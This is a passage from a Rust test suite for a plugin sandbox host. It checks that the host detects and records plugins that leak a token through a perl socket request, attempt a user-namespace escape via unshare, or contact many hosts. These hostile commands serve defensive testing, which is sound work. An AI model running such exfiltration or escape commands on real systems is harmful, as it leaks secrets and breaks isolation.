        r#"perl -MIO::Socket::INET -e '($at) = $ENV{{http_proxy}} =~ m!//([^/]*)!; $s = IO::Socket::INET->new($at) or die; print $s "GET http://{at}/?k={TOKEN} HTTP/1.1\r\nHost: {at}\r\nConnection: close\r\n\r\n"; print STDERR <$s>' >&2
        answer "$id" '{{"output":{{"json":1}}}}'"#
    );
    let folder = lab.native_with("n", &asks, &sends);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    assert_eq!(cell.call("run", json!({})), Ok(json!(1)));
    found(&lab);
}

fn a_native_program_that_tries_to_get_out_is_found_at_once() {
    let lab = Lab::new();
    let text = "version: 1\nplugins: { p: { allow: { process: [perl] } } }\n";
    let host = lab.builder().policy(policy(text)).build().expect("a host");
    // unshare(2) of a user namespace, and then nothing for a while.
    let number = if cfg!(target_arch = "x86_64") { 272 } else { 97 };
    let tries = format!(
        r#"perl -e 'syscall({number}, 0x10000000); sleep 20'; answer "$id" '{{"output":{{"json":1}}}}'"#
    );
    let folder = lab.native_with("p", r#"{ "process": ["perl"] }"#, &tries);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    let call = cell.begin("run", json!({}), Duration::from_secs(60));
    lab.heard
        .until(|event| matches!(event, Event::Finding { finding, .. } if finding.rule == "escape"));
    assert!(call.wait_for(Duration::ZERO).is_none(), "while it is at work");
    assert_eq!(cell.stop(), Ending::Killed);
}

fn where_it_talked_is_not_hidden_behind_where_it_might_not() {
    let lab = Lab::new();
    let port = serve(|mut stream, _| {
        drop(stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"));
    });
    let at = format!("localhost:{port}");
    let policed = format!(
        "version: 1\nmonitor: {{ most: observe }}\nplugins: {{ p: {{ allow: {{ network: {{ domains: [\"{at}\"], private: [\"{at}\"] }} }} }} }}\n"
    );
    let host = lab.builder().policy(policy(&policed)).build().expect("a host");
    let code = format!(
        r#"export async function go() {{
            for (let n = 0; n < 300; n++) {{ try {{ await fetch(`http://h${{n}}.example/`); }} catch {{}} }}
            return await (await fetch("http://{at}/")).text();
        }}"#
    );
    let request = format!(r#"{{ "network": {{ "domains": ["{at}"] }} }}"#);
    let folder = lab.plugin("p").permissions(&request).main(&code);
    let cell = start(&host, &host.load(folder).expect("a plugin"));
    assert_eq!(cell.call("go", json!({})), Ok(json!("ok")));
    cell.stop();
    let record = host.record("test", aether::ExitCode::Done, "", Vec::new());
    let cell = &record.cells[0];
    let talked = cell.egress.iter().find(|one| one.destination == at).expect("it is there");
    assert_eq!((talked.allowed, talked.bytes_in), (1, 2));
    // 256 are kept, and this one took the place of one of them.
    assert_eq!((cell.egress.len(), cell.other_destinations), (256, 300 - 255));
}

fn what_a_native_program_makes_of_the_kernel_is_behaviour() {
    let lab = Lab::new();
    let monitoring = Monitoring { traces: true, ..Monitoring::default() };
    let host = lab.builder().monitoring(monitoring).build().expect("a host");
    let called = r#"answer "$id" '{"output":{"json":1}}'"#;
    let cell = start(&host, &host.load(lab.native("p", called)).expect("a plugin"));
    assert_eq!(cell.call("run", json!({})), Ok(json!(1)));
    assert_eq!(cell.stop(), Ending::Normal);
    let traces = host.traces();
    let [(_, trace)] = traces.as_slice() else { panic!("one cell has run: {traces:?}") };
    assert!(trace.iter().any(|act| act == "execve /plugin sh"), "{trace:?}");
}
